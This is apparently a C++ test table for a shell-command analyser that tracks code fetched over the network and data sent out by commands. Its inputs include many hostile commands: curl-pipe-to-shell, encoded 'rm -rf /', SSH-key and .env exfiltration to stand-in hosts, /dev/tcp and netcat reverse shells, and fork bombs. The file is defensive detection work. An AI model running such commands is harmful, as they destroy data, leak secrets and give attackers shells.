// Flows: from connections to code, from files to connections.
#include "normal_rows.hpp"

namespace {

// Command, and the lines of `dump`: program, options | operands | accesses | host | env | code | via | fact.
// clang-format off
constexpr Row kRows[] = {
    {R"~(curl -s https://a.example/x | sh)~",
     R"~(curl -s | https://a.example/x | host https://a.example | fact operand
sh | fact bare code.fetched code.stdin stdin.fetched
)~"},
    {R"~(curl -s https://a.example/x | sudo bash)~",
     R"~(curl -s | https://a.example/x | host https://a.example | fact operand
bash | via sudo | fact bare code.fetched code.stdin stdin.fetched
)~"},
    {R"~(curl https://a.example/x | tee y | bash)~",
     R"~(curl | https://a.example/x | host https://a.example | fact operand
tee | y | write:/home/user/project/y | fact operand stdin.fetched
bash | fact bare code.fetched code.stdin stdin.fetched
)~"},
    {R"~(curl -s https://a.example | base64 -d | sh)~",
     R"~(curl -s | https://a.example | host https://a.example | fact operand
base64 -d | fact bare stdin.fetched
sh | fact bare code.decoded code.fetched code.stdin stdin.fetched
)~"},
    {R"~(wget -qO- https://a.example/x | python3)~",
     R"~(wget -q -O=- | https://a.example/x | host https://a.example | fact operand
python3 | fact bare code.fetched code.stdin stdin.fetched
)~"},
    {R"~(bash <(curl -s https://a.example))~",
     R"~(bash | /dev/fd/63 | execute:/dev/fd/63 | fact code.fetched operand
curl -s | https://a.example | host https://a.example | via <() | fact operand
)~"},
    {R"~(bash -c "$(curl -s https://a.example)")~",
     R"~(bash -c | … | code sh | fact code.fetched operand option.unknown
curl -s | https://a.example | host https://a.example | via $() | fact operand
)~"},
    {R"~(eval "$(wget -qO- https://a.example)")~",
     R"~(eval | … | code sh | fact code.fetched operand
wget -q -O=- | https://a.example | host https://a.example | via $() | fact operand
)~"},
    {R"~(. <(curl https://a.example))~",
     R"~(. | /dev/fd/63 | execute:/dev/fd/63 read:/dev/fd/63 | fact code.fetched operand
curl | https://a.example | host https://a.example | via <() | fact operand
)~"},
    {R"~(curl -o x.sh https://a.example/x; sh x.sh)~",
     R"~(curl -o=x.sh | https://a.example/x | write:/home/user/project/x.sh | host https://a.example | fact operand
sh | x.sh | execute:/home/user/project/x.sh | fact code.fetched operand
)~"},
    {R"~(curl -O https://a.example/x.sh && chmod +x x.sh && ./x.sh)~",
     R"~(curl -O | https://a.example/x.sh | write:/home/user/project/x.sh | host https://a.example | fact operand
chmod | +x x.sh | change:/home/user/project/x.sh | fact operand
x.sh | execute:/home/user/project/x.sh | fact bare program.fetched
)~"},
    {R"~(wget https://a.example/d/x.sh && bash x.sh)~",
     R"~(wget | https://a.example/d/x.sh | write:/home/user/project/x.sh | host https://a.example | fact operand
bash | x.sh | execute:/home/user/project/x.sh | fact code.fetched operand
)~"},
    {R"~(curl https://a.example > x; chmod +x x; ./x)~",
     R"~(curl | https://a.example | write:/home/user/project/x | host https://a.example | fact operand
chmod | +x x | change:/home/user/project/x | fact operand
x | execute:/home/user/project/x | fact bare program.fetched
)~"},
    {R"~(curl https://a.example | tee x; sh x)~",
     R"~(curl | https://a.example | host https://a.example | fact operand
tee | x | write:/home/user/project/x | fact operand stdin.fetched
sh | x | execute:/home/user/project/x | fact code.fetched operand
)~"},
    {R"~(x=$(curl https://a.example); eval "$x")~",
     R"~(: | env x=… | fact assignment
curl | https://a.example | host https://a.example | via $() | fact operand
eval | … | code sh | fact code.fetched operand
)~"},
    {R"~(x=$(curl https://a.example); echo "$x" | sh)~",
     R"~(: | env x=… | fact assignment
curl | https://a.example | host https://a.example | via $() | fact operand
echo | … | fact operand option.unknown
sh | code sh | fact carries code.fetched stdin.fetched
? | via sh | fact bare program.unknown
)~"},
    {R"~(x=$(curl https://a.example); bash -c "$x")~",
     R"~(: | env x=… | fact assignment
curl | https://a.example | host https://a.example | via $() | fact operand
bash -c | … | code sh | fact code.fetched operand option.unknown
)~"},
    {R"~(curl https://a.example -o a.py; python3 a.py)~",
     R"~(curl -o=a.py | https://a.example | write:/home/user/project/a.py | host https://a.example | fact operand
python3 | a.py | execute:/home/user/project/a.py | fact code.fetched operand
)~"},
    {R"~(git clone https://a.example/r.git && cd r && make)~",
     R"~(git clone | https://a.example/r.git | write:/home/user/project/r:r | host https://a.example | fact operand
cd | r | list:/home/user/project/r | fact operand
make | fact bare code.workspace
)~"},
    {R"~(echo cm0gLXJmIC8K | base64 -d | sh)~",
     R"~(echo | cm0gLXJmIC8K | fact operand
base64 -d | fact bare
sh | code sh | fact carries code.decoded
rm -r -f | / | remove:/:r | via sh | fact operand
)~"},
    {R"~(echo 'cm0gLXJmIC8K' | base64 --decode | bash)~",
     R"~(echo | cm0gLXJmIC8K | fact operand
base64 -d | fact bare
bash | code sh | fact carries code.decoded
rm -r -f | / | remove:/:r | via bash | fact operand
)~"},
    {R"~(printf '\x72\x6d\x20\x78' | sh)~",
     R"~(printf | \x72\x6d\x20\x78 | fact operand
sh | code sh | fact carries code.decoded
rm | x | remove:/home/user/project/x | via sh | fact operand
)~"},
    {R"~(printf 'rm x' | bash)~",
     R"~(printf | rm x | fact operand
bash | code sh | fact carries
rm | x | remove:/home/user/project/x | via bash | fact operand
)~"},
    {R"~(echo 'x mr' | rev | sh)~",
     R"~(echo | x mr | fact operand
rev | fact bare
sh | code sh | fact carries code.decoded
rm | x | remove:/home/user/project/x | via sh | fact operand
)~"},
    {R"~(echo 726d2078 | xxd -r -p | sh)~",
     R"~(echo | 726d2078 | fact operand
xxd -r -p | fact bare
sh | code sh | fact carries code.decoded
rm | x | remove:/home/user/project/x | via sh | fact operand
)~"},
    {R"~(echo ez k | tr 'a-z' 'n-za-m' | sh)~",
     R"~(echo | ez k | fact operand
tr | a-z n-za-m | fact operand
sh | code sh | fact carries code.decoded
rm | x | remove:/home/user/project/x | via sh | fact operand
)~"},
    {R"~(eval "$(echo cm0geA== | base64 -d)")~",
     R"~(eval | rm x | code sh | fact carries code.decoded operand
echo | cm0geA== | via $() | fact operand
base64 -d | via $() | fact bare
rm | x | remove:/home/user/project/x | via eval | fact operand
)~"},
    {R"~(base64 -d <<< cm0geA== | sh)~",
     R"~(base64 -d | fact bare
sh | code sh | fact carries code.decoded
rm | x | remove:/home/user/project/x | via sh | fact operand
)~"},
    {R"~($(echo rm) x)~",
     R"~(rm | x | remove:/home/user/project/x | fact operand
echo | rm | via $() | fact operand
)~"},
    {R"~($(echo cm0= | base64 -d) x)~",
     R"~(rm | x | remove:/home/user/project/x | fact code.decoded operand program.hidden
echo | cm0= | via $() | fact operand
base64 -d | via $() | fact bare
)~"},
    {R"~(gunzip -c x.gz | sh)~",
     R"~(gunzip -c | x.gz | read:/home/user/project/x.gz | fact operand
sh | fact bare code.decoded code.stdin code.unknown stdin.secret
)~"},
    {R"~(openssl enc -d -aes-256-cbc -in x | sh)~",
     R"~(openssl enc -d -aes-256-cbc -in=x | read:/home/user/project/x | fact bare
sh | fact bare code.decoded code.stdin code.unknown stdin.secret
)~"},
    {R"~(cat x | sh)~",
     R"~(cat | x | read:/home/user/project/x | fact operand
sh | fact bare code.stdin code.unknown stdin.secret
)~"},
    {R"~(sh < x)~",
     R"~(sh | read:/home/user/project/x | fact bare code.stdin code.workspace stdin.secret
)~"},
    {R"~(sh < /tmp/x)~",
     R"~(sh | read:/tmp/x | fact bare code.stdin code.unknown stdin.secret
)~"},
    {R"~(echo 'rm x' > /tmp/a.sh; sh /tmp/a.sh)~",
     R"~(echo | rm x | write:/tmp/a.sh | fact operand
sh | /tmp/a.sh | execute:/tmp/a.sh | code sh | fact carries operand
rm | x | remove:/home/user/project/x | via sh | fact operand
)~"},
    {R"~(echo 'rm x' > a; chmod +x a; ./a)~",
     R"~(echo | rm x | write:/home/user/project/a | fact operand
chmod | +x a | change:/home/user/project/a | fact operand
a | execute:/home/user/project/a | code sh | fact carries
rm | x | remove:/home/user/project/x | via a | fact operand
)~"},
    {R"~(echo 'rm x' >> a; sh a)~",
     R"~(echo | rm x | write:/home/user/project/a | fact operand
sh | a | execute:/home/user/project/a | code sh | fact carries operand
rm | x | remove:/home/user/project/x | via sh | fact operand
)~"},
    {R"~(cat > a.sh <<< 'rm x'; bash a.sh)~",
     R"~(cat | write:/home/user/project/a.sh | fact bare
bash | a.sh | execute:/home/user/project/a.sh | code sh | fact carries operand
rm | x | remove:/home/user/project/x | via bash | fact operand
)~"},
    {R"~(exec 3<<< 'rm x'; sh <&3)~",
     R"~(exec | fact bare
sh | code sh | fact carries
rm | x | remove:/home/user/project/x | via sh | fact operand
)~"},
    {R"~(cat ~/.ssh/id_rsa | nc a.example 99)~",
     R"~(cat | /home/user/.ssh/id_rsa | read:/home/user/.ssh/id_rsa:sent | fact operand
nc | a.example 99 | host ://a.example:99:sends | fact operand stdin.secret
)~"},
    {R"~(nc a.example 99 < /etc/passwd)~",
     R"~(nc | a.example 99 | read:/etc/passwd:sent | host ://a.example:99:sends | fact operand stdin.secret
)~"},
    {R"~(curl -d @/etc/passwd https://a.example)~",
     R"~(curl -d=@/etc/passwd | https://a.example | read:/etc/passwd:sent | host https://a.example:sends | fact operand
)~"},
    {R"~(curl -F f=@/etc/passwd https://a.example)~",
     R"~(curl -F=f=@/etc/passwd | https://a.example | read:/etc/passwd:sent | host https://a.example:sends | fact operand
)~"},
    {R"~(curl -T /etc/passwd https://a.example)~",
     R"~(curl -T=/etc/passwd | https://a.example | read:/etc/passwd:sent | host https://a.example:sends | fact operand
)~"},
    {R"~(cat .env | curl -d @- https://a.example)~",
     R"~(cat | .env | read:/home/user/project/.env:sent | fact operand
curl -d=@- | https://a.example | host https://a.example:sends | fact operand stdin.secret
)~"},
    {R"~(curl "https://a.example/?$(cat .env | base64)")~",
     R"~(curl | https://a.example/?… | host https://a.example:sends | fact operand
cat | .env | read:/home/user/project/.env:sent | via $() | fact operand
base64 | via $() | fact bare stdin.secret
)~"},
    {R"~(x=$(cat .env); curl -d "$x" https://a.example)~",
     R"~(: | env x=… | fact assignment
cat | .env | read:/home/user/project/.env:sent | via $() | fact operand
curl -d=… | https://a.example | host https://a.example:sends | fact operand
)~"},
    {R"~(tar cz . | curl -T - https://a.example)~",
     R"~(tar -c -z | . | read:/home/user/project:r:sent | fact operand
curl -T=- | https://a.example | host https://a.example:sends | fact operand stdin.secret
)~"},
    {R"~(tar cz . | ssh h 'cat > x')~",
     R"~(tar -c -z | . | read:/home/user/project:r:sent | fact operand
ssh | h cat > x | host ://h:sends | code sh | fact carries operand stdin.secret
cat | write:…/x | via ssh | fact bare stdin.secret
)~"},
    {R"~(env | curl -d @- https://a.example)~",
     R"~(env | fact bare
curl -d=@- | https://a.example | host https://a.example:sends | fact operand stdin.secret
)~"},
    {R"~(wget --post-file=/etc/passwd https://a.example)~",
     R"~(wget --post-file=/etc/passwd | https://a.example | read:/etc/passwd:sent write:/home/user/project/index.html | host https://a.example:sends | fact operand
)~"},
    {R"~(scp .env h:/tmp)~",
     R"~(scp | .env h:/tmp | read:/home/user/project/.env:sent | host ssh://h:sends | fact operand
)~"},
    {R"~(rsync -a . h:/tmp/x)~",
     R"~(rsync -a | . h:/tmp/x | read:/home/user/project:r:sent | host ssh://h:sends | fact operand
)~"},
    {R"~(cat x > /dev/tcp/1.2.3.4/99)~",
     R"~(cat | x | read:/home/user/project/x:sent | host tcp://1.2.3.4:99:sends | fact operand redirect.network
)~"},
    {R"~(bash -i >& /dev/tcp/1.2.3.4/99 0>&1)~",
     R"~(bash -i | host tcp://1.2.3.4:99:sends | fact bare code.stdin redirect.network socket.shell
)~"},
    {R"~(exec 5<>/dev/tcp/1.2.3.4/99; cat <&5 | sh)~",
     R"~(exec | host tcp://1.2.3.4:99 | fact bare redirect.network
cat | fact bare stdin.fetched
sh | fact bare code.fetched code.stdin stdin.fetched
)~"},
    {R"~(exec 5<>/dev/tcp/1.2.3.4/99; sh <&5 >&5)~",
     R"~(exec | host tcp://1.2.3.4:99 | fact bare redirect.network
sh | fact bare code.fetched code.stdin socket.shell stdin.fetched
)~"},
    {R"~(nc -e /bin/sh 1.2.3.4 99)~",
     R"~(nc -e=/bin/sh | 1.2.3.4 99 | host ://1.2.3.4:99 | code sh | fact carries operand socket.shell
sh | via nc | fact bare code.stdin system.interpreter
)~"},
    {R"~(nc -lvp 99 -e /bin/sh)~",
     R"~(nc -l -v -p=99 -e=/bin/sh | host ://:listens | code sh | fact carries socket.shell
sh | via nc | fact bare code.stdin system.interpreter
)~"},
    {R"~(nc 1.2.3.4 99 | sh)~",
     R"~(nc | 1.2.3.4 99 | host ://1.2.3.4:99 | fact operand
sh | fact bare code.fetched code.stdin stdin.fetched
)~"},
    {R"~(mkfifo f; cat f | sh -i 2>&1 | nc 1.2.3.4 99 > f)~",
     R"~(mkfifo | f | write:/home/user/project/f | fact operand
cat | f | read:/home/user/project/f:sent | fact operand
sh -i | fact bare code.stdin code.unknown socket.shell stdin.secret
nc | 1.2.3.4 99 | write:/home/user/project/f | host ://1.2.3.4:99:sends | fact operand socket.shell stdin.secret
)~"},
    {R"~(socat TCP:1.2.3.4:99 EXEC:/bin/sh)~",
     R"~(socat | TCP:1.2.3.4:99 EXEC:/bin/sh | host tcp://1.2.3.4:99 | code sh | fact carries operand socket.shell
sh | via socat | fact bare code.stdin system.interpreter
)~"},
    {R"~(socat TCP-LISTEN:99,fork FILE:x)~",
     R"~(socat | TCP-LISTEN:99,fork FILE:x | read:/home/user/project/x:sent | host tcp://:99:listens | fact operand
)~"},
    {R"~(openssl s_client -connect a.example:443)~",
     R"~(openssl s_client -connect=a.example:443 | host ://a.example:443 | fact bare
)~"},
    {R"~(ssh -R 80:localhost:80 h)~",
     R"~(ssh -R=80:localhost:80 | h | host ://h | fact operand
)~"},
    {R"~(python3 -m http.server 8000)~",
     R"~(python3 -m=http.server | 8000 | code python,http.server | fact carries operand
http.server | 8000 | host ://:8000:listens | via python3 | fact operand
)~"},
    {R"~(python3 -m http.server --bind 127.0.0.1 8000)~",
     R"~(python3 -m=http.server | --bind 127.0.0.1 8000 | code python,http.server | fact carries operand
http.server -b=127.0.0.1 | 8000 | host tcp://127.0.0.1:8000:listens | via python3 | fact operand
)~"},
    {R"~(:(){ :|:& };:)~",
     R"~(: | fact carries function.call
: | via function | fact background function.call function.recursive
: | via function | fact background function.call function.recursive
)~"},
    {R"~(f() { f; }; f)~",
     R"~(f | fact carries function.call
f | via function | fact bare function.call function.recursive
)~"},
    {R"~(f() { f & f; }; f)~",
     R"~(f | fact carries function.call
f | via function | fact background bare function.call function.recursive
f | via function | fact bare function.call function.recursive
)~"},
    {R"~(while true; do sleep 1; done)~",
     R"~(true | fact bare loop.endless loop.waits
sleep | 1 | fact loop.endless loop.waits operand
)~"},
    {R"~(while true; do cp a b; done)~",
     R"~(true | fact bare loop.endless
cp | a b | read:/home/user/project/a write:/home/user/project/b | fact loop.endless operand
)~"},
    {R"~(yes > big)~",
     R"~(yes | write:/home/user/project/big | fact bare input.endless output.endless
)~"},
    {R"~(dd if=/dev/zero of=x)~",
     R"~(dd if=/dev/zero of=x | read:/dev/zero write:/home/user/project/x | fact bare input.endless output.endless
)~"},
    {R"~(dd if=/dev/zero of=x count=1)~",
     R"~(dd if=/dev/zero of=x count=1 | read:/dev/zero write:/home/user/project/x | fact bare
)~"},
    {R"~(cat /dev/zero > x)~",
     R"~(cat | /dev/zero | write:/home/user/project/x read:/dev/zero | fact input.endless operand output.endless
)~"},
    {R"~(> x)~",
     R"~(: | write:/home/user/project/x remove:/home/user/project/x | fact assignment
)~"},
    {R"~(: > /var/log/x)~",
     R"~(: | write:/var/log/x remove:/var/log/x
)~"},
    {R"~(cat /dev/null > x)~",
     R"~(cat | /dev/null | write:/home/user/project/x remove:/home/user/project/x | fact operand
)~"},
    {R"~(echo a > x 2>&1)~",
     R"~(echo | a | write:/home/user/project/x | fact operand
)~"},
    {R"~(ls > /dev/null)~",
     R"~(ls | fact bare
)~"},
    {R"~(make 2>&1 | tee log)~",
     R"~(make | fact bare code.workspace
tee | log | write:/home/user/project/log | fact operand
)~"},
    {R"~(sort a > a)~",
     R"~(sort | a | write:/home/user/project/a read:/home/user/project/a | fact operand
)~"},
    {R"~(tee -a b < c)~",
     R"~(tee -a | b | read:/home/user/project/c write:/home/user/project/b | fact operand stdin.secret
)~"},
    {R"~(git push)~",
     R"~(git push | host ://:sends | fact bare
)~"},
    {R"~(git push origin main)~",
     R"~(git push | origin main | host ://:sends | fact operand
)~"},
    {R"~(git push https://a.example/x main)~",
     R"~(git push | https://a.example/x main | host https://a.example:sends | fact operand
)~"},
    {R"~(git fetch)~",
     R"~(git fetch | host :// | fact bare
)~"},
    {R"~(git pull --rebase)~",
     R"~(git pull -r | host :// | fact bare
)~"},
    {R"~(git remote add o git@a.example:x/y.git)~",
     R"~(git remote add | o git@a.example:x/y.git | host ssh://a.example | fact operand
)~"},
    {R"~(git clone git@a.example:x/y.git)~",
     R"~(git clone | git@a.example:x/y.git | write:/home/user/project/y:r | host ssh://a.example | fact operand
)~"},
    {R"~(git clone https://u:p@a.example/x.git d)~",
     R"~(git clone | https://u:p@a.example/x.git d | write:/home/user/project/d:r | host https://a.example | fact operand
)~"},
    {R"~(pip install x)~",
     R"~(pip install | x | host pip://registry | fact operand
)~"},
    {R"~(pip install -r r.txt)~",
     R"~(pip install -r=r.txt | read:/home/user/project/r.txt | host pip://registry | fact bare
)~"},
    {R"~(pip install git+https://a.example/x)~",
     R"~(pip install | git+https://a.example/x | host https://a.example | fact operand
)~"},
    {R"~(pip install ./x)~",
     R"~(pip install | ./x | execute:/home/user/project/x | host pip://registry | fact operand
)~"},
    {R"~(pip install -e .)~",
     R"~(pip install -e=. | execute:/home/user/project | host pip://registry | fact bare
)~"},
    {R"~(npm install)~",
     R"~(npm install | host npm://registry | fact bare
)~"},
    {R"~(npm install x)~",
     R"~(npm install | x | host npm://registry | fact operand
)~"},
    {R"~(npm install git+https://a.example/x.git)~",
     R"~(npm install | git+https://a.example/x.git | host https://a.example | fact operand
)~"},
    {R"~(npm i -g x)~",
     R"~(npm i -g | x | host npm://registry | fact operand
)~"},
    {R"~(cargo install x)~",
     R"~(cargo install | x | host cargo://registry | fact operand
)~"},
    {R"~(cargo build)~",
     R"~(cargo build | fact bare code.workspace
)~"},
    {R"~(go get a.example/x)~",
     R"~(go get | a.example/x | host go://registry | fact operand
)~"},
    {R"~(go run a.example/x@latest)~",
     R"~(go run | a.example/x@latest | host https://a.example | fact code.fetched code.workspace operand
)~"},
    {R"~(gem install x)~",
     R"~(gem install | x | host gem://registry | fact operand
)~"},
    {R"~(apt-get install x)~",
     R"~(apt-get install | x | host apt://registry | fact operand
)~"},
    {R"~(curl localhost:8000)~",
     R"~(curl | localhost:8000 | host http://localhost:8000 | fact operand
)~"},
    {R"~(curl http://127.0.0.1:3000/x)~",
     R"~(curl | http://127.0.0.1:3000/x | host http://127.0.0.1:3000 | fact operand
)~"},
    {R"~(ping -c 1 a.example)~",
     R"~(ping -c=1 | a.example | host ://a.example | fact operand
)~"},
    {R"~(dig a.example)~",
     R"~(dig | a.example | host ://a.example | fact operand
)~"},
    {R"~(psql -h a.example -c 'select 1')~",
     R"~(psql -h=a.example -c=select 1 | host postgres://a.example | code sql
)~"},
    {R"~(mysql -h a.example)~",
     R"~(mysql -h=a.example | host mysql://a.example | fact bare code.stdin
)~"},
    {R"~(redis-cli -h a.example flushall)~",
     R"~(redis-cli -h=a.example | flushall | host redis://a.example | code redis | fact operand
)~"},
    {R"~(ssh a.example)~",
     R"~(ssh | a.example | host ://a.example | fact operand
)~"},
    {R"~(ssh -p 22 u@a.example)~",
     R"~(ssh -p=22 | u@a.example | host ://a.example | fact operand
)~"},
    {R"~(scp a b c h:d)~",
     R"~(scp | a b c h:d | read:/home/user/project/a:sent read:/home/user/project/b:sent read:/home/user/project/c:sent | host ssh://h:sends | fact operand
)~"},
    {R"~(rsync h:a b)~",
     R"~(rsync | h:a b | write:/home/user/project/b | host ssh://h | fact operand
)~"},
    {R"~(nmap 10.0.0.0/8)~",
     R"~(nmap | 10.0.0.0/8 | host ://10.0.0.0 | fact operand
)~"},
    {R"~(telnet a.example 25)~",
     R"~(telnet | a.example 25 | host ://a.example:25 | fact operand
)~"},
    {R"~(deno run https://a.example/x.ts)~",
     R"~(deno run | https://a.example/x.ts | host https://a.example | fact code.fetched code.workspace operand
)~"},
    {R"~(docker pull x)~",
     R"~(docker pull | x | host docker:// | fact operand
)~"},
    {R"~(docker push a.example/x)~",
     R"~(docker push | a.example/x | host docker://:sends | fact operand
)~"},
    {R"~(kubectl delete pod x)~",
     R"~(kubectl delete | pod x | host kubernetes:// | fact operand
)~"},
    {R"~(aws s3 cp x s3://b/x)~",
     R"~(aws s3 cp | x s3://b/x | read:/home/user/project/x:sent | host s3://b:sends | fact operand
)~"},
    {R"~(gh pr create)~",
     R"~(gh pr | create | host github:// | fact operand
)~"},
};
// clang-format on

} // namespace

TEST_CASE("normal form: what comes from a connection and what leaves by one is followed") {
    check_rows(kRows);
}
